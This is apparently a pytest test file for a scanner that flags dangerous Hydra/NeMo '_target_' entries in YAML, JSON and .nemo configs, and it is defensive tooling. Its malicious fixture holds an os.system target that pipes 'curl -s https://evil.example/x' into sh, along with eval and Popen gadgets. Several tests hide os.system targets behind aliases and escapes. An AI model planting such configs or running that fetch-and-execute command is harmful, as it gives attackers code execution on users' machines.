"""Hydra/NeMo ``_target_`` configs: YAML and JSON, standalone or inside a ``.nemo`` tar. Known ML
classes pass; gadgets are critical; everything else outside the allowlist is high. Configs are
composed with the safe loader only: nothing is constructed, imported or called.
"""

from __future__ import annotations

import io
import json
import os
import tarfile
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from modeltrust import Severity, scan_paths
from modeltrust.cli import EXIT_FAILED, EXIT_OK, main
from modeltrust.scanners.configs import hydra
from modeltrust.scanners.configs.hydra import parse_targets, rate_target
from tests.helpers import rule_ids, serious

FUZZ = settings(
    max_examples=int(os.environ.get("MODELTRUST_FUZZ_EXAMPLES", "150")),
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

BENIGN = """\
name: QuartzNet15x5
sample_rate: &sr 16000
model:
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    sample_rate: *sr
    window_size: 0.02
  encoder:
    _target_: nemo.collections.asr.modules.ConvASREncoder
    jasper:
      - filters: 256
        repeat: 1
  train_ds:
    manifest_filepath: ${oc.env:DATA}/train.json
    dataloader:
      _target_: torch.utils.data.DataLoader
  optim:
    _target_: torch.optim.AdamW
    lr: 0.001
    sched:
      _target_: torch.optim.lr_scheduler.CosineAnnealingLR
      T_max: 100
trainer:
  _target_: pytorch_lightning.Trainer
  logger:
    _target_: lightning.pytorch.loggers.TensorBoardLogger
  tokenizer:
    _target_: transformers.AutoTokenizer
  container:
    _target_: collections.OrderedDict
# _target_: os.system  (a comment is not a target)
"""

MALICIOUS = """\
model:
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  shell:
    _target_: os.system
    _args_: ["curl -s https://evil.example/x | sh"]
  code:
    _target_: builtins.eval
    _partial_: true
  proc: {_target_: subprocess.Popen, _args_: [[id]]}
"""


def nemo_archive(config: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in (
            ("./model_config.yaml", config.encode()),
            ("./model_weights.ckpt", b"\x00" * 64),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def scan(
    tmp_path: Path, data: bytes | str, name: str = "config.yaml"
) -> list[tuple[str, Severity, str]]:
    path = tmp_path / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    result = scan_paths([path])
    assert "MT-INT-001" not in rule_ids(result), serious(result)
    return [(f.rule_id, f.severity, f.message) for f in result.findings]


# --- happy path ----------------------------------------------------------------------------------
def test_benign_nemo_config_is_clean(tmp_path: Path) -> None:
    path = tmp_path / "model_config.yaml"
    path.write_text(BENIGN)
    result = scan_paths([path])
    assert result.findings == ()
    assert result.files[0].formats == ("hydra-config",)
    assert main(["scan", str(path), "--no-progress"]) == EXIT_OK


def test_malicious_nemo_archive(tmp_path: Path) -> None:
    path = tmp_path / "model.nemo"
    path.write_bytes(nemo_archive(MALICIOUS))
    result = scan_paths([path])
    got = [f for f in result.findings if f.rule_id == "MT-CFG-001"]
    assert [f.severity for f in got] == [Severity.CRITICAL] * 3
    assert {f.evidence.split(";")[0] for f in got if f.evidence} == {
        "_target_: os.system",
        "_target_: builtins.eval",
        "_target_: subprocess.Popen",
    }
    assert all(f.location.members == ("./model_config.yaml",) for f in got)
    shell = next(f for f in got if "os.system" in f.message)
    assert "model.shell._target_" in shell.message
    assert "curl -s https://evil.example/x | sh" in shell.message
    assert shell.location.offset == MALICIOUS.index("os.system")
    assert "_partial_" in next(f.message for f in got if "builtins.eval" in f.message)
    assert main(["scan", str(path), "--no-progress"]) == EXIT_FAILED


def test_json_config(tmp_path: Path) -> None:
    config = {
        "model": {"_target_": "posix.system", "_args_": ["id"]},
        "opt": {"_target_": "torch.optim.SGD"},
    }
    got = scan(tmp_path, json.dumps(config, indent=2), "config.json")
    assert [(r, s) for r, s, _ in got] == [("MT-CFG-001", Severity.CRITICAL)]


def test_duplicate_keys_hide_nothing(tmp_path: Path) -> None:
    yaml_text = "m:\n  _target_: torch.nn.Linear\n  _target_: os.system\n"
    assert [s for _, s, _ in scan(tmp_path, yaml_text)] == [Severity.CRITICAL]
    json_text = '{"m": {"_target_": "os.system", "_target_": "torch.nn.Linear"}}'
    assert [s for _, s, _ in scan(tmp_path, json_text, "c.json")] == [Severity.CRITICAL]


def test_targets_in_anchors_and_merge_keys(tmp_path: Path) -> None:
    text = "base: &b\n  _target_: runpy.run_path\nm:\n  <<: *b\n  x: 1\nn: *b\n"
    got = scan(tmp_path, text)
    assert [s for _, s, _ in got] == [Severity.CRITICAL]  # one anchor, reported once


@pytest.mark.parametrize(
    "text",
    [
        "t: &t os.system\nm:\n  _target_: *t\n",  # the value behind an alias
        "k: &k _target_\nm:\n  *k : os.system\n",  # the key behind an alias
        'm:\n  "\\x5ftarget_": os.system\n',  # an escaped key
        'm:\n  ? "_tar\\\n    get_"\n  : os.system\n',  # an escaped line break inside the key
        '{"m": {"\\u005ftarget_": "os.system"}}',  # JSON escape
    ],
)
def test_hidden_targets_are_found(tmp_path: Path, text: str) -> None:
    assert [s for _, s, _ in scan(tmp_path, text)] == [Severity.CRITICAL], text


def test_shell_script_with_line_continuations_is_not_claimed(tmp_path: Path) -> None:
    path = tmp_path / "run.sh"
    path.write_text("#!/bin/sh\npython train.py \\\n  --lr 0.1 \\\n  --epochs 3 )(\n")
    result = scan_paths([path])
    assert result.findings == ()
    assert "hydra-config" not in result.files[0].formats


def test_outside_the_allowlist_is_high(tmp_path: Path) -> None:
    got = scan(tmp_path, "model:\n  _target_: my_company.models.SpeechModel\n")
    assert [(r, s) for r, s, _ in got] == [("MT-CFG-001", Severity.HIGH)]
    assert "outside the allowlist" in got[0][2]


@pytest.mark.parametrize(
    ("target", "severity"),
    [
        ("os.system", Severity.CRITICAL),
        ("builtins.exec", Severity.CRITICAL),
        ("subprocess.run", Severity.CRITICAL),
        ("importlib.import_module", Severity.CRITICAL),
        ("hydra.utils.instantiate", Severity.CRITICAL),
        ("hydra.utils.get_method", Severity.CRITICAL),
        ("omegaconf.OmegaConf.save", Severity.HIGH),
        ("pytorch_lightning.LightningModule.load_from_checkpoint", Severity.CRITICAL),
        ("nemo.core.classes.ModelPT.restore_from", Severity.CRITICAL),
        ("pickle.loads", Severity.CRITICAL),
        ("torch.load", Severity.CRITICAL),
        ("torch.nn.Module.__subclasses__", Severity.CRITICAL),
        ("nemo.collections.asr.models.__builtins__.eval", Severity.CRITICAL),
        ("shutil.rmtree", Severity.HIGH),
        ("requests.get", Severity.HIGH),
        ("transformers.AutoModel.from_pretrained", Severity.HIGH),
        ("eval", Severity.CRITICAL),
        ("not a path", Severity.HIGH),
        ("unknown.Thing", Severity.HIGH),
        ("nemo.collections.nlp.models.TextClassificationModel", None),
        ("torch.optim.lr_scheduler.StepLR", None),
        ("pytorch_lightning.callbacks.ModelCheckpoint", None),
        ("omegaconf.DictConfig", None),
        ("builtins.dict", None),
        ("sklearn.linear_model._logistic.LogisticRegression", None),
    ],
)
def test_rate_target(target: str, severity: Severity | None) -> None:
    assert rate_target(target).severity == severity


def test_non_string_target_is_high(tmp_path: Path) -> None:
    got = scan(tmp_path, "m:\n  _target_: {module: os, name: system}\n")
    assert [s for _, s, _ in got] == [Severity.HIGH]


# --- not configs ---------------------------------------------------------------------------------
def test_python_source_mentioning_target_is_not_claimed(tmp_path: Path) -> None:
    code = (
        'from dataclasses import dataclass\n\n@dataclass\nclass Cfg:\n    _target_: str = "a.B"\n'
    )
    path = tmp_path / "cfg.py"
    path.write_text(code)
    result = scan_paths([path])
    assert "hydra-config" not in result.files[0].formats
    assert not [f for f in result.findings if f.rule_id == "MT-CFG-001"]


def test_text_without_target_keys_is_not_claimed(tmp_path: Path) -> None:
    for text in ("just: yaml\n", "the word _target_ in prose\n", "a: '_target_: os.system'\n"):
        path = tmp_path / "x.yaml"
        path.write_text(text)
        assert "hydra-config" not in scan_paths([path]).files[0].formats


def test_binary_is_not_sniffed(tmp_path: Path) -> None:
    path = tmp_path / "x.data"
    path.write_bytes(b"\x00\x01_target_: os.system\n")
    assert scan_paths([path]).findings == ()


@pytest.mark.parametrize("padding", [2000, 3 * 1024 * 1024])
def test_target_found_after_the_first_bytes(tmp_path: Path, padding: int) -> None:
    text = ("# " + "x" * 98 + "\n") * (padding // 100) + "m:\n  _target_: os.system\n"
    assert [s for _, s, _ in scan(tmp_path, text)] == [Severity.CRITICAL]


# --- malformed input and limits ------------------------------------------------------------------
def test_broken_yaml_falls_back_to_a_text_search(tmp_path: Path) -> None:
    text = "model:\n  _target_: os.system\n  bad: [unclosed\n  other: {\n"
    got = scan(tmp_path, text)
    assert sorted(s for _, s, _ in got) == [Severity.HIGH, Severity.CRITICAL]
    assert any("could not be parsed" in m for _, _, m in got)


def test_alias_bomb_is_cheap(tmp_path: Path) -> None:
    lines = ['a: &a ["_target_", "x"]']
    lines += [
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]"
        for i in range(9)
    ]
    lines.append("m:\n  _target_: os.system\n  bomb: *j")
    started = time.perf_counter()
    got = scan(tmp_path, "\n".join(lines) + "\n")
    assert time.perf_counter() - started < 5
    assert [s for _, s, _ in got] == [Severity.CRITICAL]


def test_deep_nesting_does_not_crash(tmp_path: Path) -> None:
    deep = "m:\n  _target_: os.system\n  x: " + "[" * 20_000 + "]" * 20_000 + "\n"
    got = scan(tmp_path, deep)
    assert Severity.CRITICAL in [s for _, s, _ in got]
    shallow_but_wide = "m:\n  _target_: os.system\n  x: " + "[[1]], " * 3000 + "\n"
    assert Severity.CRITICAL in [s for _, s, _ in scan(tmp_path, shallow_but_wide)]


def test_size_limits(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hydra, "MAX_YAML", 100)
    got = scan(tmp_path, "m:\n  _target_: os.system\n" + "pad: 1\n" * 50)
    assert sorted(s for _, s, _ in got) == [Severity.HIGH, Severity.CRITICAL]
    monkeypatch.setattr(hydra, "MAX_CONFIG", 200)
    got = scan(tmp_path, "m:\n  _target_: os.system\n" + "pad: 1\n" * 50)
    assert any("larger than 200 bytes" in m for _, _, m in got)


def test_many_targets_are_capped(tmp_path: Path) -> None:
    text = "".join(f"m{i}:\n  _target_: mypkg.Thing{i}\n" for i in range(150))
    got = scan(tmp_path, text)
    assert len(got) == hydra._MAX_FINDINGS + 1


def test_parse_targets_reports_paths() -> None:
    targets = parse_targets("a:\n  - b:\n      _target_: x.Y\n      _args_: [1, two]\n")
    assert [(t.path, t.value, t.args) for t in targets] == [("a[0].b._target_", "x.Y", "[1, two]")]


# --- fuzz ----------------------------------------------------------------------------------------
@FUZZ
@given(st.text(max_size=300), st.sampled_from(["os.system", "torch.nn.Linear", "{", "[", "*x"]))
def test_random_configs_never_crash(tmp_path: Path, noise: str, target: str) -> None:
    text = f"m:\n  _target_: {target}\n{noise}\n"
    path = tmp_path / "c.yaml"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    result = scan_paths([path])
    assert "MT-INT-001" not in rule_ids(result), serious(result)
